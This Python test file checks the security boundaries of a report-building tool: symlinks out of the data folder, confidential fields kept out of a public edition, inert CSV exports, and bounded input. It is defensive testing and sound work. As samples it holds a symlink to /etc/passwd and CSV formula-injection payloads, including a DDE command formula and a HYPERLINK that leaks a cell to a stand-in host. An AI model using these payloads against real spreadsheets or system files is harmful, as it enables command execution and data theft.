"""What the tool promises an attacker and a clumsy user: the data folder is a boundary, the public
edition hides what is internal whatever the files are called, exports are inert, input is bounded,
and what ``check`` accepts, ``build`` builds (or both refuse, saying the same thing).
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from make_broken_corpus import to_workbook
from paths import RICH, ROOT, SAMPLE, need
from test_editions import published_texts

from labels_report.model.quality import check

SECRET = Path("/etc/passwd")


def cli(*args: str, cwd: Path = ROOT, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "labels_report.cli", *args], cwd=cwd, capture_output=True,
                          text=True, check=False, env=env)


def errors(folder: Path, year: int = 2017) -> list[tuple[str, str, str]]:
    return [(i.code, i.file, i.value or "") for i in check(folder, year=year) if i.severity == "error"]


def town(tmp_path: Path, source: Path = SAMPLE, name: str = "soissons") -> Path:
    folder = tmp_path / name
    shutil.copytree(source, folder)
    return folder


def rewrite(path: Path, change) -> None:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    fields = list(rows[0])
    rows = change(rows)
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fields, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def secret_lines() -> list[str]:
    return [line for line in SECRET.read_text().splitlines() if len(line) > 12][:3]


# -- the data folder is a boundary ---------------------------------------------------------

def test_a_narrative_linked_outside_is_an_error_not_a_read(tmp_path):
    need(SECRET.is_file(), "a file outside the folder to link to")
    folder = town(tmp_path)
    (folder / "texts" / "2017" / "tepcv.md").symlink_to(SECRET)
    assert ("file_outside_folder", "texts/2017/tepcv.md", str(SECRET)) in errors(folder)
    out = tmp_path / "out"
    result = cli("build", "--data", str(folder), "--year", "2017", "--out", str(out), "--engine", "pandoc")
    assert result.returncode == 2 and "texts/2017/tepcv.md" in result.stderr and str(SECRET) in result.stderr
    assert "Traceback" not in result.stderr
    assert not any(p.is_file() for p in out.rglob("*") if ".locks" not in p.parts)


@pytest.mark.parametrize("what", ["labels.csv", "texts/2016", "town.yml"])
def test_tables_folders_and_town_linked_outside_are_errors(tmp_path, what):
    """Even when what the link points to is a valid file: it is outside, it is not read."""
    folder = town(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    original = folder / what
    moved = elsewhere / original.name
    shutil.move(str(original), moved)
    original.symlink_to(moved)
    assert ("file_outside_folder", what, str(moved)) in errors(folder)


def test_a_logo_linked_outside_is_refused(tmp_path):
    from PIL import Image

    folder = town(tmp_path)
    outside = tmp_path / "logo.png"
    Image.new("RGB", (4, 4), "navy").save(outside)
    (folder / "logo.png").symlink_to(outside)
    text = (folder / "town.yml").read_text("utf-8").replace('logo: ""', "logo: logo.png")
    (folder / "town.yml").write_text(text, "utf-8")
    assert [e for e in errors(folder) if e[0] == "town_logo_outside"]


def test_a_link_that_stays_inside_the_folder_is_followed(tmp_path):
    folder = town(tmp_path)
    (folder / "tables").mkdir()
    shutil.move(str(folder / "labels.csv"), folder / "tables" / "labels.csv")
    (folder / "labels.csv").symlink_to(Path("tables") / "labels.csv")
    assert errors(folder) == []


def test_the_fingerprint_never_opens_a_link_out(tmp_path):
    """Knowing whether the data changed reads no file outside the folder either."""
    from labels_report.data.folder import fingerprint

    folder = town(tmp_path)
    target = tmp_path / "outside.md"
    target.write_text("one", "utf-8")
    (folder / "texts" / "2017" / "x.md").symlink_to(target)
    before = fingerprint(folder)
    target.write_text("two", "utf-8")  # a change outside the folder is not a change of the data
    assert fingerprint(folder) == before


# -- confidentiality keyed on meaning, not spelling -------------------------------------------

MARKERS = {
    ("labels.csv", "referent"): "QZREFERENT",
    ("action_years.csv", "comment"): "QZCOMMENT",
    ("actions.csv", "title"): "QZTITLE",
    ("actions.csv", "description"): "QZDESCRIPTION",
    ("actions.csv", "axis"): "QZAXIS",
    ("actions.csv", "lead_service"): "QZSERVICE",
    ("actions.csv", "partners"): "QZPARTNER",
    ("actions.csv", "place"): "QZPLACE",
    ("actions.csv", "indicator"): "QZINDICATOR",
}
HIDDEN_ID = "QZHIDDEN7"


def planted(tmp_path: Path, spelling: str) -> Path:
    """The rich fixture with a marker in every internal field and every field of an action marked
    ``public = no`` (which has no budget: the warning about it names it), files or sheets spelt
    ``spelling``."""
    folder = town(tmp_path, RICH, f"planted-{spelling}")
    rewrite(folder / "labels.csv", lambda rows: [{**r, "referent": MARKERS[("labels.csv", "referent")]}
                                                  for r in rows])
    hidden = {c: MARKERS.get(("actions.csv", c), "") for c in ("title", "description", "axis", "lead_service",
                                                                "partners", "place", "indicator")}
    rewrite(folder / "actions.csv", lambda rows: rows + [{**rows[0], **hidden, "action_id": HIDDEN_ID,
                                                           "labels": "ville-fleurie", "public": "non"}])
    rewrite(folder / "action_years.csv", lambda rows: [{**r, "comment": MARKERS[("action_years.csv", "comment")]}
                                                        for r in rows]
            + [{**rows[0], "action_id": HIDDEN_ID, "year": "2017", "status": "planned", "progress": "",
                "budget_planned": "", "budget_spent": "", "budget_kind": "", "indicator_value": "",
                "comment": MARKERS[("action_years.csv", "comment")]}])
    names = {"lower": str.lower, "upper": str.upper, "mixed": lambda n: n[:1].upper() + n[1:]}
    if spelling.startswith("workbook"):
        book = to_workbook(folder)
        wb = load_workbook(book)
        for number, sheet in enumerate(wb.worksheets):
            title = sheet.title.upper() if spelling == "workbook-upper" else sheet.title.title()
            sheet.title = f"renamed-{number}"  # openpyxl adds a "1" to a title equal to its own but for case
            sheet.title = title
        wb.save(book)
    else:
        for name in ("labels.csv", "label_events.csv", "actions.csv", "action_years.csv"):
            stem, suffix = name.split(".")
            (folder / name).rename(folder / f"{names[spelling](stem)}.{names[spelling](suffix)}")
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("spelling", ["lower", "upper", "mixed", "workbook-upper", "workbook-mixed"])
def test_the_public_edition_shows_nothing_internal_whatever_the_files_are_called(tmp_path, spelling):
    from labels_report.publish.build import build

    folder = planted(tmp_path, spelling)
    assert [i for i in check(folder, year=2017) if i.severity == "error"] == []
    results = build(folder, 2017, editions=["conseil", "public"], engine="pandoc", out=tmp_path / "out",
                    project=ROOT)
    by_edition = {r.params.edition: published_texts(r.folder) for r in results}
    for name, text in by_edition["public"].items():
        for marker in [*MARKERS.values(), HIDDEN_ID]:
            assert marker not in text, f"{marker} in the public {name} ({spelling})"
    council = " ".join(by_edition["conseil"].values())
    for marker in [*MARKERS.values(), HIDDEN_ID]:
        assert marker in council, f"{marker} is in the council edition: the check above can fail"


# -- exports are inert -------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x?d="&A1,"Cliquez ici")', "=cmd|' /C calc'!A0", "+33 1 23 45", "@SUM(A1)",
            "-2+3"]


@pytest.mark.slow
def test_csv_exports_carry_no_live_formula_and_the_report_shows_the_text(tmp_path):
    from labels_report.publish.build import build

    folder = town(tmp_path, RICH)
    rewrite(folder / "actions.csv", lambda rows: [{**r, "title": FORMULAS[i % len(FORMULAS)]}
                                                  for i, r in enumerate(rows)])
    [result] = build(folder, 2017, editions=["conseil"], engine="pandoc", out=tmp_path / "out", project=ROOT)
    with (result.folder / "donnees" / "actions.csv").open(encoding="utf-8", newline="") as handle:
        titles = [row["title"] for row in csv.DictReader(handle)]
    assert titles and all(t.startswith("'") and t[1:] in FORMULAS for t in titles), titles
    for path in (result.folder / "donnees").glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row), (path.name, row)
    html = result.files["html"].read_text("utf-8")
    assert "=HYPERLINK(&quot;http://x?d=&quot;&amp;A1,&quot;Cliquez ici&quot;)" in html or \
        '=HYPERLINK("http://x?d="&amp;A1,"Cliquez ici")' in html


# -- bounded input -------------------------------------------------------------------------------

def test_a_sparse_workbook_is_read_by_its_cells_not_its_extent(tmp_path):
    """One space typed in AD1048576 does not make a million rows; a value beyond the limits is an
    error naming its cell."""
    folder = town(tmp_path)
    book = to_workbook(folder)
    wb = load_workbook(book)
    wb["actions"]["AD1048576"] = " "
    wb.save(book)
    assert book.stat().st_size < 64 * 1024
    tracemalloc.start()
    issues = check(folder, year=2017)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [i for i in issues if i.severity == "error"] == []
    assert peak < 200 * 2**20, f"{peak / 2**20:.0f} MiB to read a workbook of a few cells"
    wb["actions"]["AD1048576"] = "x"
    wb.save(book)
    assert ("sheet_too_large", "donnees.xlsx", "AD1048576") in errors(folder)


def test_a_corrupt_workbook_is_a_clear_error(tmp_path):
    folder = town(tmp_path)
    book = to_workbook(folder)
    with zipfile.ZipFile(book) as source:
        entries = {name: source.read(name) for name in source.namelist()}
    sheet = next(name for name in entries if name.startswith("xl/worksheets/sheet"))
    entries[sheet] = entries[sheet][: len(entries[sheet]) // 2]  # cut in the middle of the XML
    with zipfile.ZipFile(book, "w") as target:
        for name, data in entries.items():
            target.writestr(name, data)
    assert [e[:2] for e in errors(folder)] == [("workbook_unreadable", "donnees.xlsx")]
    result = cli("build", "--data", str(folder), "--year", "2017", "--out", str(tmp_path / "out"))
    assert result.returncode == 2 and "donnees.xlsx" in result.stderr and "Traceback" not in result.stderr


def test_a_cell_longer_than_excel_allows_is_an_error(tmp_path):
    folder = town(tmp_path)
    rewrite(folder / "actions.csv", lambda rows: [{**rows[0], "description": "x" * 40_000}, *rows[1:]])
    assert [e for e in errors(folder) if e[0] == "cell_too_long"]


def test_a_data_file_too_large_is_not_read(tmp_path):
    from labels_report.data import folder as boundary

    folder = town(tmp_path)
    with (folder / "actions.csv").open("a", encoding="utf-8") as handle:
        handle.write(" " * (boundary.MAX_FILE_BYTES + 1))
    assert [e for e in errors(folder) if e[:2] == ("file_too_large", "actions.csv")]


# -- check and build agree -------------------------------------------------------------------------

def test_control_characters_are_removed_and_said_so_the_same_in_check_and_build(tmp_path):
    folder = town(tmp_path)
    rewrite(folder / "actions.csv", lambda rows: [{**rows[0], "title": "Plan\x0c « écoles\x0b 3.0 »"}, *rows[1:]])
    warnings = [i for i in check(folder, year=2017) if i.code == "control_characters_removed"]
    assert [(w.file, w.row, w.column) for w in warnings] == [("actions.csv", 2, "title")]
    assert "\u240c" in warnings[0].value, "the message shows where the invisible character was"
    out = tmp_path / "out"
    result = cli("build", "--data", str(folder), "--year", "2017", "--out", str(out), "--engine", "pandoc")
    assert result.returncode == 0, result.stderr
    html = next(out.rglob("*.html")).read_text("utf-8")
    assert "Plan « écoles 3.0 »" in html.replace("\u00a0", " ").replace("\u202f", " ") and "\x0c" not in html


def test_9999_as_no_end_is_refused_saying_to_leave_the_cell_empty(tmp_path):
    folder = town(tmp_path)
    rewrite(folder / "label_events.csv", lambda rows: [{**rows[0], "valid_until": "9999"}, *rows[1:]])
    [(code, file, value)] = errors(folder)
    assert (code, file, value) == ("date_out_of_range", "label_events.csv", "9999")
    result = cli("build", "--data", str(folder), "--year", "2017", "--out", str(tmp_path / "out"))
    assert result.returncode == 2 and "laissant la cellule vide" in result.stderr
    assert "Traceback" not in result.stderr


def test_an_overlong_folder_name_still_builds(tmp_path):
    folder = town(tmp_path, SAMPLE, "Commune " * 28)
    assert len(folder.name) > 200
    out = tmp_path / "out"
    result = cli("build", "--data", str(folder), "--year", "2017", "--out", str(out), "--engine", "pandoc")
    assert result.returncode == 0, result.stderr
    [pdf] = out.rglob("*.pdf")
    assert len(pdf.name) < 100 and pdf.parts[-4].startswith("commune-commune")


# -- parameters and output, in the user's language -----------------------------------------------

@pytest.mark.parametrize("args,expected", [
    (["--year", "1800"], "le rapport porte sur une année de 1900 à 2199"),
    (["--year", "2017", "--as-of", "9999-12-31"], "date de situation 9999-12-31 : pour le rapport 2017"),
    (["--year", "2017", "--as-of", "31/12/2017"], "écrivez-la AAAA-MM-JJ"),
    (["--year", "2017", "--horizon", "500"], "choisissez entre 1 et 120 mois"),
    (["--year", "deux-mille"], "argument --year : année invalide : 'deux-mille'"),
    (["--year", "2017", "--edition", "presse"], "choix invalide : 'presse'"),
])
def test_parameter_errors_are_one_french_sentence(tmp_path, args, expected):
    result = cli("build", "--data", str(SAMPLE), "--out", str(tmp_path / "out"), *args)
    assert result.returncode == 2, result.stderr
    assert expected in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").rglob("*.pdf"))


def test_parameter_errors_are_english_for_an_english_locale(tmp_path):
    env = {**os.environ, "LANG": "en_GB.UTF-8", "LC_ALL": "", "LC_MESSAGES": ""}
    result = cli("build", "--data", str(SAMPLE), "--year", "1800", "--out", str(tmp_path / "out"), env=env)
    assert result.returncode == 2 and "a report is about a year from 1900 to 2199" in result.stderr


@pytest.mark.parametrize("out,expected", [
    ("file", "n'est pas un dossier"),
    ("/dev/null/rapports", "n'est pas un dossier"),
    ("/sys/rapports", "impossible d'écrire dans le dossier de sortie"),
])
def test_an_impossible_output_folder_is_one_sentence_and_leaves_nothing(tmp_path, out, expected):
    if out == "file":
        out = str(tmp_path / "a-file")
        Path(out).write_text("not a folder", "utf-8")
    result = cli("build", "--data", str(SAMPLE), "--year", "2017", "--out", out, "--engine", "pandoc")
    assert result.returncode == 2, result.stderr
    assert expected in result.stderr and "Traceback" not in result.stderr
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith("Rien n'a été publié : ") and expected in last, "the sentence says why"


@pytest.mark.slow
def test_a_full_disk_is_one_sentence_and_leaves_nothing(tmp_path):
    tiny = tmp_path / "tiny"
    tiny.mkdir()
    mounted = os.geteuid() == 0 and subprocess.run(["mount", "-t", "tmpfs", "-o", "size=400k", "tmpfs", str(tiny)],
                                                  capture_output=True).returncode == 0
    need(mounted, "a small file system to fill: this test mounts a 400 KB tmpfs, as root")
    try:
        result = cli("build", "--data", str(SAMPLE), "--year", "2017", "--out", str(tiny), "--engine", "pandoc")
        assert result.returncode == 1, result.stderr
        assert "Traceback" not in result.stderr
        assert "Rien n'a été publié : le disque est plein" in result.stderr
        left = [p.relative_to(tiny).as_posix() for p in tiny.rglob("*") if p.is_file()]
        assert [p for p in left if not p.startswith(".locks/")] == []
    finally:
        subprocess.run(["umount", str(tiny)], check=False)


@pytest.mark.slow
def test_no_path_of_the_machine_in_what_the_public_edition_publishes(tmp_path):
    from labels_report.publish.build import build

    folder = town(tmp_path, RICH, "commune-privee")
    [result] = build(folder, 2017, editions=["public"], engine="pandoc", out=tmp_path / "out", project=ROOT)
    texts = published_texts(result.folder)
    assert "manifest.json" in texts and any(name.endswith(".html") for name in texts)
    for name, text in texts.items():
        for path in (str(tmp_path), str(ROOT), str(Path.home())):
            assert path not in text, f"{path} in {name}"
